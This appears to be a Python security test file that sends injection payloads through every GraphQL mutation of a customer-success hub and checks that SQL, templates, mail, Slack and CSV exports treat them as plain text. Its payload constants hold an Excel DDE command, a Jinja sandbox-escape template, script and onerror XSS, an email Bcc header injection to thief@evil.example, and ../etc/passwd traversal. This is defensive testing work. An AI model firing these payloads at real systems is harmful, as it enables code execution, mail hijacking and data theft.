"""Hostile texts in every text that a mutation takes: texts they stay, in SQL, in templates, and wherever they are shown.

The inputs are made of the schema, so that a new one is tried by itself. What is written is then looked at where it goes: mail
and pages (HTML), Slack, spreadsheets, and the API itself.
"""

import csv
import io
import re
from collections.abc import AsyncIterator, Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from graphql import get_named_type, is_enum_type, is_input_object_type, is_list_type, is_non_null_type
from sqlalchemy import event, select

from hub.compose import Hub
from hub.export import Asked, encoded, plan
from hub.settings import load
from hub.store import Store, tables
from hub.store.query.entities import ENTITIES
from schema.nodes import TYPES, global_id
from tests.audits.test_injection import SQL, Engine, asking, told
from tests.audits.texts import TEXTS
from tests.fakes.clock import Clock
from tests.schema.asking_everything import RAW
from tests.schema.company import NOW, seed
from tests.schema.test_access_books import ACTS

MARK = "zq7x"
"""In every hostile text: a statement that has it was made of the text."""
HOSTILE = (
    *(f"{MARK} {text}" for text in SQL if len(text) < 100),
    f"=cmd|' /C calc'!A0 {MARK}",
    f"{{{{ 7*7 }}}} {MARK} {{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    f"<!channel> <https://evil.example|{MARK}> <script>alert(1)</script>",
    f"{MARK}\r\nBcc: thief@evil.example\r\n\r\n<img src=x onerror=alert(1)>",
    f"../../../etc/passwd {MARK} \u202e\u0007\u2028",
)
NAME = f"=1+1 {{{{ 7*7 }}}} <!channel> <b>{MARK}</b>\r\nBcc: thief@evil.example"
MUTATIONS: Mapping[str, Any] = RAW.mutation_type.fields if RAW.mutation_type is not None else {}
NEVER = frozenset({"personErase", "customerErase"})
"""Tried dry: what they take away is what the others are tried with."""
PLAIN: Mapping[str, Any] = {
    "Int": 1, "Float": 0.5, "Boolean": False, "Date": "2026-12-01", "DateTime": "2026-12-01T00:00:00Z",
    "CustomerFilter": {"health": {"lt": 0.5}},
}  # fmt: skip


@pytest.fixture
async def hub(sqlite_store: Store, tmp_path: Path) -> AsyncIterator[Hub]:
    await seed(sqlite_store, 2)
    async with sqlite_store.transaction() as connection:
        await connection.execute(
            tables.churn_model.update().values(role="retired")
        )  # they are no models one could load
        for each in (tables.scorecard, tables.extra_scorecard, tables.rollup_scorecard):
            await connection.execute(each.delete())  # nor scorecards that one could compare with
    url = sqlite_store.url.render_as_string(hide_password=False)
    settings = load(tmp_path, environment={"CSHUB_STORE": url})
    clock = Clock(NOW)
    async with Hub.open(settings, clock=clock, engine=Engine(clock=clock)) as opened, opened.working():
        yield opened


@contextmanager
def statements(store: Store) -> Iterator[list[str]]:
    seen: list[str] = []

    def note(_connection: Any, _cursor: Any, statement: str, *_: Any) -> None:
        seen.append(statement)

    engines = {id(each): each for each in (store._reader.sync_engine, store._writer.sync_engine)}
    for each in engines.values():
        event.listen(each, "before_cursor_execute", note)
    try:
        yield seen
    finally:
        for each in engines.values():
            event.remove(each, "before_cursor_execute", note)


async def test_hostile_texts_in_every_mutation(hub: Hub) -> None:
    ask, ids = asking(hub), await known_ids(hub.store)
    tried = done = 0
    with statements(hub.store) as seen:
        for name, field in MUTATIONS.items():
            type_ = field.args["input"].type
            query = f"mutation($input: {type_}) {{ {name}(input: $input) {{ errors {{ code message }} }} }}"
            for number, path in enumerate(paths(type_.of_type)):
                text = HOSTILE[(tried + number) % len(HOSTILE)]
                given = filled(name, type_.of_type, path, text, ids)
                body = await ask(query, {"input": given})
                said = told(body) + str(body.get("data"))
                assert "INTERNAL" not in said, (name, path, text, body)
                assert "49" not in re.sub(r"[\w-]*\d{3,}[\w-]*", "", said.replace(text, "")), (name, path, body)
                tried += 1
                done += "errors" not in body and not (body["data"][name] or {"errors": ["?"]})["errors"]
    assert tried > 120
    assert done > 30, f"{done} of {tried} got through: the others never came to where texts are kept"
    assert not [each for each in seen if MARK in each.lower()], "a text is a parameter, never a part of a statement"
    async with hub.store.reading() as connection:
        kept = (await connection.execute(select(tables.note.c.body))).scalars().all()
    assert any(MARK in each for each in kept)


async def test_what_was_written_is_shown_as_text(hub: Hub) -> None:
    ask = asking(hub)
    async with hub.store.transaction() as connection:
        await connection.execute(tables.customer.update().values(name=NAME))
        await connection.execute(tables.alert.update().values(title=NAME, reason=NAME, note=NAME))
    task = {"customerId": global_id("customer", "c000"), "title": NAME, "reason": NAME, "ownerEmail": "bob@cs.example"}
    mutation = "mutation($input: TaskCreateInput!) { taskCreate(input: $input) { task { title } errors { message } } }"
    made = (await ask(mutation, {"input": task}))["data"]["taskCreate"]
    assert made == {"task": {"title": NAME}, "errors": []}
    body = await ask("{ playbooks { name } weekly: digestPreview(digest: WEEKLY) { subject text html } }")
    weekly = body["data"]["weekly"]
    assert_plain(weekly["subject"], weekly["html"])
    fire = "mutation($input: PlaybookFireInput!) { playbookFire(input: $input) { errors { message } runs { id } } }"
    for number, each in enumerate(body["data"]["playbooks"]):
        given = {"playbook": each["name"], "customerIds": [task["customerId"]], "idempotencyKey": f"k{number}"}
        assert "errors" not in await ask(fire, {"input": {**given, "force": True}})
    await hub.durable.run()  # type: ignore[attr-defined]  # the one in memory
    async with hub.store.reading() as connection:
        sent = (await connection.execute(select(tables.delivery).where(tables.delivery.c.reserved_at >= NOW))).all()
    by = {channel: [each for each in sent if each.channel == channel] for channel in ("slack", "email")}
    assert all(by.values()), {name: len(each) for name, each in by.items()}
    for each in by["slack"]:
        said = str(each.payload)
        assert "<!channel>" not in said
        assert "{{ 7*7 }}" in said or MARK not in said
    assert any("&lt;!channel&gt;" in str(each.payload) for each in by["slack"])
    for each in by["email"]:
        assert_plain(each.subject, str(each.payload.get("html")))
    assert any(MARK in str(each.payload) for each in by["email"])
    exported = await plan(hub.store, Asked(view="alerts"), today=NOW.date())
    text = b"".join([piece async for piece in encoded("csv", exported.columns, exported.pages(hub.store))]).decode()
    titles = {row["title"] for row in csv.DictReader(io.StringIO(text, newline="")) if MARK in row["title"]}
    assert titles
    assert not [each for each in titles if each.startswith(("=", "+", "-", "@"))], titles
    assert f"'{NAME}" in titles


def assert_plain(subject: str, html: str) -> None:
    """A mail whose head has one line a field, and whose HTML has none of the name's."""
    assert not {"\r", "\n"} & set(subject)
    assert "<b>" + MARK not in html
    assert "{{ 7*7 }}" in html or MARK not in html


def paths(type_: Any, depth: int = 2) -> Iterator[tuple[str, ...]]:
    """Where an input takes a text."""
    for name, field in type_.fields.items():
        named = get_named_type(field.type)
        if named.name in TEXTS - {"Date", "DateTime"}:
            yield (name,)
        elif is_input_object_type(named) and depth:
            some = [] if named.name == "CustomerFilter" and depth < 2 else list(paths(named, depth - 1))
            yield from ((name, *path) for path in some[:6])


async def known_ids(store: Store) -> dict[str, str]:
    """{entity: an id of a row there is}"""
    found = {}
    async with store.reading() as connection:
        for entity in {each for each, _, _ in ACTS.values()}:
            own = ENTITIES[entity]
            row = (await connection.execute(select(own.table.c[own.id]).limit(1))).scalar()
            found[entity] = global_id(entity, str(row)) if entity in TYPES else str(row)
    return found


def filled(name: str, type_: Any, path: tuple[str, ...], text: str, ids: Mapping[str, str]) -> dict[str, Any]:
    """An input that would do, but for the text at the path."""
    entity, where, more = ACTS.get(name, ("customer", "customerId", {}))
    given: dict[str, Any] = {}
    for each, field in type_.fields.items():
        if path[0] == each:
            given[each] = at(field.type, path[1:], text)
        elif each == "dryRun":
            given[each] = name in NEVER
        elif each in more:
            given[each] = more[each]
        elif each == where:
            given[each] = [ids[entity]] if is_list_type(bare(field.type)) else ids[entity]
        elif is_non_null_type(field.type):
            given[each] = plain(field.type, each, name)
    return given


def at(type_: Any, path: tuple[str, ...], text: str) -> Any:
    type_ = bare(type_)
    if is_list_type(type_):
        return [at(type_.of_type, path, text)]
    return {path[0]: at(type_.fields[path[0]].type, path[1:], text)} if path else text


def plain(type_: Any, field: str, mutation: str) -> Any:
    type_ = bare(type_)
    if is_list_type(type_):
        return [plain(type_.of_type, field, mutation)]
    if is_enum_type(type_):
        return next(iter(type_.values))
    if type_.name == "ID":
        return global_id("customer", "c001" if field == "mergeId" else "c000")
    return PLAIN.get(type_.name, f"{mutation}-{field}")


def bare(type_: Any) -> Any:
    return type_.of_type if is_non_null_type(type_) else type_
